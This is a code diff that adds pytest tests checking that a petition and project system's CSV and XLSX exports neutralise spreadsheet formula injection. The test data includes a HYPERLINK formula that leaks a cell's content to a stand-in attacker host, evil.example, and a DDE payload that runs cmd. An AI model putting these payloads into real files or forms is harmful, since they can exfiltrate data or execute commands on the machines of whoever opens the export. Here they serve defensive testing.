@@ -7,6 +7,7 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import io
+from decimal import Decimal
 
 import openpyxl
 import pytest
@@ -150,3 +151,76 @@ def test_the_actors_registry_exports_with_its_filter(client, zone, other_zone, b
     assert sorted(r[1] for r in rows[1:]) == ["Quỹ Minh họa", "Đại học Minh họa"]
     rows = _csv(client.get(f"/ecosystem/actors/?zone={zone.code}&kind=fund&export=csv"))
     assert [r[1] for r in rows[1:]] == ["Quỹ Minh họa"]
+
+
+# --- formula injection (issue 21, item 1) ----------------------------------------------------------
+
+HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A2,"Open")'
+
+
+def _sheet_xml(response) -> str:
+    import zipfile
+
+    book = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
+    return book.read("xl/worksheets/sheet1.xml").decode()
+
+
+def test_text_that_looks_like_a_formula_is_shown_never_run(client, zone, board_user, make_project):
+    """A visitor's petition titled as a formula: the board's XLSX of the queue holds it as text (no
+    formula element, Excel's quote prefix so it stays text when edited), the CSV with a leading
+    apostrophe; numbers, a negative one included, stay numbers; the same in an open dataset."""
+    filed = client.post(
+        "/api/v1/petitions",
+        data={
+            "zone": zone.code,
+            "title": HOSTILE_TITLE,
+            "body": "Nội dung bình thường.",
+            "category": "construction",
+            "petitioner_name": "@SUM(1+1)*cmd|' /C calc'!A0",
+            "petitioner_email": "a@example.vn",
+        },
+        content_type="application/json",
+    )
+    assert filed.status_code == 201, filed.content
+    client.force_login(board_user)
+    xml = _sheet_xml(client.get("/petitions/?export=xlsx"))
+    assert "<f>" not in xml  # no formula anywhere in the sheet
+    book = openpyxl.load_workbook(io.BytesIO(b"".join(client.get("/petitions/?export=xlsx").streaming_content)))
+    cells = [c for row in book.active.iter_rows() for c in row if c.value == HOSTILE_TITLE]
+    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)  # shown exactly as typed
+    rows = _csv(client.get("/petitions/?export=csv"))
+    assert "'" + HOSTILE_TITLE in rows[1]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+    make_project(zone=zone, name_vi="+84 Dự án", capital=12_000_000_000)
+    rows = _csv(client.get("/open-data/projects.csv"))
+    assert [cell for row in rows[1:] for cell in row if "Dự án" in cell] == ["'+84 Dự án"]
+    assert any(cell == "12000000000" for row in rows for cell in row)  # a number is not quoted
+
+
+def test_a_negative_number_stays_a_number():
+    from zonedesk.core.exports import Column, _csv_lines, _xlsx
+
+    columns = [Column("n", lambda r: r[0]), Column("t", lambda r: r[1])]
+    lines = list(_csv_lines(columns, [(-5, "-5"), (Decimal("-1.5"), "@x")]))
+    assert lines[1] == "-5,'-5\r\n" and lines[2] == "-1.5,'@x\r\n"
+    book = openpyxl.load_workbook(_xlsx(columns, [(-5, "-5")], "t"))
+    assert [c.value for c in book.active[2]] == [-5, "-5"] and book.active["A2"].data_type == "n"
+
+
+def test_an_exported_registry_with_formula_like_names_imports_unchanged(
+    client, tmp_path, zone, board_user, make_project
+):
+    """The round trip of the spreadsheet imports survives the neutralising apostrophe."""
+    from zonedesk.sheets import services as sheets
+
+    make_project(zone=zone, name_vi="=Dự án công thức")
+    client.force_login(board_user)
+    for fmt in ("csv", "xlsx"):
+        data = b"".join(client.get(f"/imports/export/projects.{fmt}").streaming_content)
+        if fmt == "csv":
+            assert "'=Dự án công thức" in data.decode("utf-8-sig")
+        path = tmp_path / f"projects.{fmt}"
+        path.write_bytes(data)
+        check = sheets.import_file("projects", path, by=board_user)
+        assert check.rows == 1 and check.unchanged == 1 and not check.new, check.problems
